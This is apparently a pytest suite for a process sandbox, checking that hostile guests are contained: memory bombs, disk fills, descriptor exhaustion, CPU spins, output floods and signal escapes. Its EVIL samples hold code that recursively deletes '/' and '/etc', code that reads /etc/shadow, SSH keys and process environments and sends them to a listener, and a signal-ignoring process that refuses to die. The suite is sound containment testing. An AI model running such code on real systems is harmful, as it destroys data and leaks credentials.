"""THREATS D: guests that eat the host or refuse to die. Right verdict, host unchanged, nothing left.

Every attack first runs outside, bounded, to show that it does what it says. Who ended a run is told by its verdict: where it must
not be the deadline, that is far away.
"""

import functools
import os
import re
import signal
import socket
import subprocess
import threading
import time

import pytest

import harness
from harness import PATIENCE, by_cgroup, inside, outside, run_json
from levels import at_levels, both, deadlines, FAR

pytestmark = pytest.mark.usefixtures("leftovers")


# -- 55, 56 memory -------------------------------------------------------------------------------------------------------

# Without a cgroup (not root, not delegated) a watcher looks every few milliseconds, which a fast guest overtakes.
@both
@pytest.mark.parametrize("where", ["anonymous", "children", "memfd", "sysv"])
def test_memory_bomb(level, where):
    assert "used" in outside("memory", where, 100).stdout
    result = run_json("--memory", "64M", *FAR, *inside(level, "memory", where, 600))
    if where in ("memfd", "sysv") and not by_cgroup(result, "memory limit"):
        # Nothing could count these, so they are not to be had.
        assert result["exit_code"] == 9 and "used" not in result["stdout"], result
        return
    assert result.verdict == "out_of_memory", result
    assert result.status == 137
    assert "--memory" in result["message"]
    assert "used" not in result["stdout"]


@pytest.mark.parametrize("where", ["shm", "tmp", "workdir"])
def test_memory_in_files_is_charged(where):
    """Private filesystems live in memory: larger than the limit, they must count against it."""
    control = run_json("--memory", "256M", "--disk", "1G", "--tmp", "1G", *inside("kernel", "memory", where, 100))
    assert "used 100" in control["stdout"], "with room enough it does fill them"
    result = run_json("--memory", "64M", "--disk", "1G", "--tmp", "1G", *FAR, *inside("kernel", "memory", where, 500))
    if by_cgroup(result, "memory limit"):
        assert result.verdict == "out_of_memory", result
        assert "used" not in result["stdout"]
    # Otherwise their own sizes bound them.
    result = run_json("--memory", "1G", "--disk", "20M", "--tmp", "20M", *FAR, *inside("kernel", "memory", where, 500))
    assert result.verdict == "disk_limit" and "errno 28" in result["stdout"], result


def test_memory_is_free_again(shared):
    def shared_memory():
        """In MiB: files of tmpfs, memfds and segments are all counted here, and hardly anything else is."""
        return int(re.search(r"Shmem:\s+(\d+)", open("/proc/meminfo", encoding="utf-8").read())[1]) // 1024

    before = shared_memory()
    for where in ("tmp", "shm", "memfd", "sysv", "workdir"):
        result = run_json("--memory", "600M", "--disk", "500M", "--tmp", "500M", *inside("kernel", "memory", where, 300))
        assert result.verdict == "exited" and ("used 300" in result["stdout"] or not harness.IS_ROOT), result
    assert harness.wait_until(lambda: shared_memory() < before + 150), f"{before} MiB before, {shared_memory()} MiB after"


def test_memory_below_the_limit_is_fine():
    result = run_json("--memory", "256M", *inside("kernel", "memory", "anonymous", 150))
    assert result.verdict == "exited" and "used 150" in result["stdout"], result
    assert 150 << 20 <= result["usage"]["memory_peak_bytes"] <= 256 << 20 or not harness.IS_ROOT


# -- 57 to 60 files ------------------------------------------------------------------------------------------------------

@both
def test_disk_fill(level, tmp_path):
    assert "used 50" in outside("memory", "workdir", 50, cwd=tmp_path).stdout
    result = run_json("--disk", "16M", "--memory", "512M", *inside(level, "memory", "workdir", 300))
    assert result.verdict == "disk_limit", result
    assert "--disk" in result["message"]
    assert result["usage"]["disk_bytes"] < 200 << 20


def test_tmp_fill():
    result = run_json("--tmp", "8M", "--memory", "512M", *inside("kernel", "memory", "tmp", 300))
    assert result.verdict == "disk_limit", result
    assert "errno 28" in result["stdout"], "inside it looks like a full disk"
    assert "--tmp" in result["message"]


def test_full_disk_that_the_command_survives_is_no_verdict():
    result = run_json("--disk", "4M", "--", "/bin/sh", "-c", "head -c 20M /dev/zero > big 2>/dev/null; rm big; echo still here")
    assert result.verdict == "exited" and result["exit_code"] == 0, result
    assert result["stdout"] == "still here\n"


@both
def test_inode_fill(level, tmp_path):
    assert "done 1000 of" in outside("disk", "files", 1000, cwd=tmp_path).stdout
    result = run_json("--files", "500", *inside(level, "disk", "files", 5000))
    assert result.verdict == "disk_limit", result
    assert "--files" in result["message"]
    assert re.search(r"done 4\d\d of", result["stdout"]) or level == "process", result["stdout"]


@both
def test_sparse_terabyte(level, tmp_path):
    """It may be made (it takes no room) or be refused, but it must not be copied, counted as used, or left behind."""
    assert "done" in outside("disk", "sparse", 1 << 40, cwd=tmp_path).stdout
    result = run_json(*FAR, *inside(level, "disk", "sparse", 1 << 40))
    assert result.verdict in ("exited", "file_size", "disk_limit"), result
    assert result["usage"]["disk_bytes"] < 1 << 30


def test_deep_tree():
    depth = 10000 if harness.LONG else 2000  # Landlock walks up to the root at every step, so this takes depth squared.
    result = run_json("--files", "20000", *FAR, *inside("kernel", "disk", "deep", depth))
    assert result.verdict == "exited" and f"done {depth}" in result["stdout"], result


def test_deep_tree_is_removed_at_level_process():
    result = run_json("--level", "process", "--files", "20000", *FAR, "--", harness.guest("disk"), "deep", "10000")
    assert result.verdict == "exited" and "done 10000" in result["stdout"], result


# -- 61 kernel objects ---------------------------------------------------------------------------------------------------

@both
@at_levels("what", ["pipes", "timers"], ["fds", "inotify", "epoll", "eventfd", "sockets"])
def test_exhaustion_stays_inside(level, what):
    result = run_json("--open-files", "100", "--memory", "512M", *FAR, *inside(level, "exhaust", what))
    assert result.verdict in ("exited", "out_of_memory"), result
    match = re.match(r"got (\d+) errno", result["stdout"])
    if result.verdict == "exited" and what != "timers":
        assert int(match[1]) <= 100, "limits.open_files = 100 did not hold"
    # The host, and another sandbox of the same user, still get theirs.
    assert outside("exhaust", what).stdout.startswith("got ")
    read_end, write_end = os.pipe()
    os.close(read_end)
    os.close(write_end)
    after = run_json(*inside(level, "exhaust", what))
    assert after.verdict in ("exited", "out_of_memory") and not after["stdout"].startswith("got 0 "), after


# A program of the same user, with the customary limit, for which two hundred are on their way at once.
ON_THEIR_WAY = """
import array, resource, socket
resource.setrlimit(resource.RLIMIT_NOFILE, (1024, 1024))
one, other = socket.socketpair()
for _ in range(200):
    one.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0]))])
print("passed 200")
"""

IN_FLIGHT = """
import array, errno, socket, time
kept = []
try:
    for _ in range(20):
        kept.append(socket.socketpair())
        for _ in range(200):
            kept[-1][0].sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0]))])
except OSError as error:
    print(errno.errorcode[error.errno], flush=True)
time.sleep(600)
"""


@both
def test_descriptors_in_flight_keep_no_other_run_from_starting(level):
    """The kernel counts them for a whole user. A guest may use up what its own limit allows, and others start all the same."""
    first = subprocess.Popen([harness.BELLJAR, "run", "--level", level, "--", harness.PYTHON, "-c", IN_FLIGHT], stdin=subprocess.DEVNULL,
                             stdout=subprocess.PIPE, text=True)
    try:
        assert first.stdout.readline() == "ETOOMANYREFS\n", "it did use them up"
        for _ in range(3):
            assert run_json("--level", level, "--", "/bin/echo", "second")["stdout"] == "second\n"
        passed = subprocess.run([harness.PYTHON, "-c", ON_THEIR_WAY], capture_output=True, text=True)
        assert passed.stdout == "passed 200\n", passed
    finally:
        first.terminate()
        first.communicate(timeout=PATIENCE)


# -- 62 CPU time ---------------------------------------------------------------------------------------------------------

@functools.cache
def spins_outside(*way):
    return subprocess.run(["timeout", "-s", "KILL", "0.3", harness.guest("spin"), *way], capture_output=True).returncode in (137, -9)


@both
@pytest.mark.parametrize("way", [["1"], ["8"], ["1", "fork"]], ids=["one", "threads", "children"])
def test_cpu_time(level, way):
    assert spins_outside(*way), "outside nothing else ends it"
    result = run_json("--cpu-time", "200ms", *FAR, *inside(level, "spin", *way))
    assert result.verdict == "cpu_time", result
    assert result.status == 124
    assert "--cpu-time" in result["message"]
    used = result["usage"]["cpu_ms"]
    print(f"{level} {way}: used {used} ms of 200")
    assert 180 <= used < 4000


def test_sleep_uses_no_cpu_time():
    result = run_json("--cpu-time", "300ms", "--", "/bin/sleep", "0.6")
    assert result.verdict == "exited" and result["exit_code"] == 0, result


# -- 63 zombies, 64 floods, 65 stdin, 66 core dumps, 67 signals ------------------------------------------------------------

@both
def test_zombies_are_reaped(level):
    assert re.match(r"seen \d+", outside("zombies", 20).stdout)

    def reaped():
        result = run_json("--processes", "150", *inside(level, "zombies", 400))
        if result.verdict == "process_limit" or result["exit_code"] in (8, 9):  # A fork was refused, for the dead were too many.
            return False
        assert result.verdict == "exited" and result["exit_code"] == 0, result
        return level == "process" or int(re.match(r"seen (\d+)", result["stdout"])[1]) <= 3  # Init, the guest, and nobody else.

    assert harness.wait_until(reaped), "the dead stay"  # On a busy machine init may come to it late, but not each time.


@both
@at_levels("kind", ["binary", "both"], ["text", "ansi", "lines"])
def test_endless_flood_ends_at_the_deadline(level, kind):
    with subprocess.Popen([harness.guest("flood"), kind, "0"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL) as control:
        assert len(control.stdout.read(1 << 21)) == 1 << 21 and control.poll() is None, "outside it does not end by itself"
        control.kill()
    for wall in deadlines(300):
        result = run_json("--wall", wall, "--output", "16K", *inside(level, "flood", kind, 0))
        assert result.verdict == "timed_out", result
        assert result["stdout_bytes"] <= 16384 or result["stdout_bytes"] == result["stdout_dropped"] + 16384
        if result["stdout_bytes"] > 1 << 20:
            break
    else:
        pytest.fail("that was no flood")


@both
def test_streamed_flood_ends_at_the_limit(level):
    done = harness.belljar("--output", "1M", *FAR, *inside(level, "flood", "text", 0))
    assert len(done.stdout) <= (1 << 20)
    assert "output_limit" in done.stderr and "--output" in done.stderr
    assert done.returncode == 137


@both
def test_stdin_that_is_never_read(level):
    result = run_json("--level", level, *FAR, "--", "/bin/true", input="x" * (8 << 20))
    assert result.verdict == "exited" and result["exit_code"] == 0, result
    result = run_json("--level", level, "--wall", "300ms", "--", "/bin/sleep", "600", input="x" * (8 << 20))
    assert result.verdict == "timed_out", result


@both
@pytest.mark.parametrize("way", ["fault", "abort"])
def test_no_core_dumps(level, way, shared):
    expected = {"fault": signal.SIGSEGV, "abort": signal.SIGABRT}[way]
    assert outside("crash", way, cwd=shared).returncode == -expected
    arguments = inside(level, "crash", way)
    if level == "kernel":
        arguments = ["--rw", f"{shared}:/workspace", "--workdir", "/workspace", *arguments]
    else:
        arguments = ["--workdir", str(shared), *arguments]
    for path in shared.iterdir():
        path.unlink()
    result = run_json(*arguments)
    assert result.verdict == "signaled" and result["signal"] == expected, result
    assert result.status == 128 + expected
    assert list(shared.iterdir()) == [], "no core file"
    limit = run_json("--level", level, "--", "/bin/sh", "-c", "ulimit -Hc")
    assert limit["stdout"].strip() == "0"


@pytest.mark.parametrize("target", ["own", "host"])
def test_signals_by_setown_stay_inside(target):
    """F_SETOWN asks the kernel to send SIGIO to any process; a host pid must not be one."""
    got = []
    before = signal.signal(signal.SIGIO, lambda *_: got.append(1))
    try:
        code = f"""
import fcntl, os, socket, signal
signal.signal(signal.SIGIO, signal.SIG_IGN)
a, b = socket.socketpair()
try:
    fcntl.fcntl(a, fcntl.F_SETOWN, {os.getpid() if target == 'host' else 'os.getpid()'})
    fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    b.send(b'x')
    print('sent')
except OSError as e:
    print('refused', e.errno)
"""
        subprocess.run([harness.PYTHON, "-c", code], check=True, capture_output=True)
        if target == "host":
            assert harness.wait_until(lambda: got), "the control must be signalled"
        got.clear()
        result = run_json("--", harness.PYTHON, "-c", code)
        assert not got, "a guest signalled a process of the host"  # By its own call, so it would have come before the result.
        assert result["stdout"].strip() == ("sent" if target == "own" else "refused 3"), result
    finally:
        signal.signal(signal.SIGIO, before)


# -- 68 exactly one verdict ------------------------------------------------------------------------------------------------

@both
def test_exit_racing_the_deadline(level):
    seen = set()
    for i in range(40 if harness.LONG else 8):
        result = run_json("--level", level, "--wall", "100ms", "--", "/bin/sleep", f"0.{90 + i % 4 * 3:03d}")
        seen.add(result.verdict)
        if result.verdict == "exited":
            assert result["exit_code"] == 0 and result["signal"] is None and result.status == 0, result
        else:
            assert result.verdict == "timed_out" and result["exit_code"] is None and result.status == 124, result
    print(seen)


@both
def test_several_limits_at_once(level):
    """Deadline, CPU time, memory and output race: one of them is the verdict, never a plain signal."""
    for wall in range(100, 220, 20 if harness.LONG else 50):
        result = run_json("--level", level, "--wall", f"{wall}ms", "--cpu-time", "100ms", "--memory", "64M", "--",
                          "/bin/bash", "-c", "a=x; while :; do a=$a$a; done & while :; do echo $RANDOM; done")
        assert result.verdict in ("timed_out", "cpu_time", "out_of_memory"), result
        assert result["exit_code"] is None


# -- the three evil tools ---------------------------------------------------------------------------------------------------

EVIL = {
    "deletes everything": ("import shutil, os\n"
                           "for top in ('/', '/usr', '/home', '/root', '/etc', '{canary}'):\n"
                           "    shutil.rmtree(top, ignore_errors=True)\n", {"exited", "timed_out", "cpu_time"}),
    "steals secrets": ("import os, glob, socket\n"
                       "loot = []\n"
                       "for path in ['{canary}/secret', '/etc/shadow', '/root/.ssh/id_rsa', '/proc/1/environ'] + "
                       "glob.glob('/home/*/.ssh/*') + glob.glob('/proc/*/environ'):\n"
                       "    try:\n"
                       "        data = open(path, 'rb').read()\n"
                       "        if b'SECRET' in data: loot.append(path)\n"
                       "    except OSError: pass\n"
                       "if 'SECRET' in str(os.environ): loot.append('environ')\n"
                       "try: socket.create_connection(('127.0.0.1', {port}), 60).send(b'loot'); loot.append('sent')\n"
                       "except OSError: pass\n"
                       "print('loot', loot)\n", {"exited"}),
    "never ends": ("import os, signal, time, threading\n"
                   "for s in range(1, 65):\n"
                   "    try: signal.signal(s, signal.SIG_IGN)\n"
                   "    except (OSError, ValueError): pass\n"
                   "for i in range(5):\n"
                   "    if os.fork() == 0:\n"
                   "        os.setsid()\n"
                   "        if os.fork(): os._exit(0)\n"
                   "        while True: time.sleep(0.01)\n"
                   "print('up', flush=True)\n"
                   "while True: pass\n", {"timed_out", "cpu_time"}),
}


@pytest.mark.parametrize("tool", EVIL)
def test_evil_tool(tool, shared, monkeypatch):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.setblocking(False)  # Who is connected to it waits there already.
    canary = shared / "canary"
    canary.mkdir(mode=0o777)
    (canary / "secret").write_text("SECRET")
    monkeypatch.setenv("API_KEY", "SECRET-KEY")
    code, verdicts = EVIL[tool]
    code = code.replace("{canary}", str(canary)).replace("{port}", str(listener.getsockname()[1]))
    if tool == "steals secrets":  # The control; the others would harm the host.
        stolen = subprocess.run([harness.PYTHON, "-c", code], capture_output=True, text=True).stdout
        assert "secret" in stolen and "environ" in stolen and "sent" in stolen, stolen
        listener.accept()[0].close()
    for wall in ["100s"] if tool == "steals secrets" else deadlines(500):
        word = harness.token()
        result = run_json("--profile", "tool", "--wall", wall, "--", harness.PYTHON, "-c", code, word)
        assert result.verdict in verdicts, result
        assert not harness.processes_with(word)
        if tool != "never ends" or "up" in result["stdout"]:
            break
    else:
        pytest.fail("it never got going")
    assert (canary / "secret").read_text() == "SECRET"
    assert os.path.exists("/bin/sh") and os.path.isdir("/etc")
    if tool == "steals secrets":
        assert result["stdout"] == "loot []\n", result
        with pytest.raises(BlockingIOError):
            listener.accept()
    listener.close()


# -- several at once ---------------------------------------------------------------------------------------------------------

def test_one_sandbox_does_not_hurt_another():
    """Limits are per sandbox, not per user: a bomb in one leaves its neighbour alone."""
    verdicts = []

    def bomb():
        verdicts.append(run_json("--processes", "60", *FAR, *inside("kernel", "fork_bomb", "wait")).verdict)

    threads = [threading.Thread(target=bomb) for _ in range(3)]
    for thread in threads:
        thread.start()
    neighbour = run_json("--processes", "60", "--", "/bin/sh", "-c", "for i in 1 2 3 4 5 6 7 8; do /bin/true & done; wait; echo ok")
    for thread in threads:
        thread.join()
    assert neighbour.verdict == "exited" and neighbour["stdout"] == "ok\n", neighbour
    assert verdicts == ["process_limit"] * 3
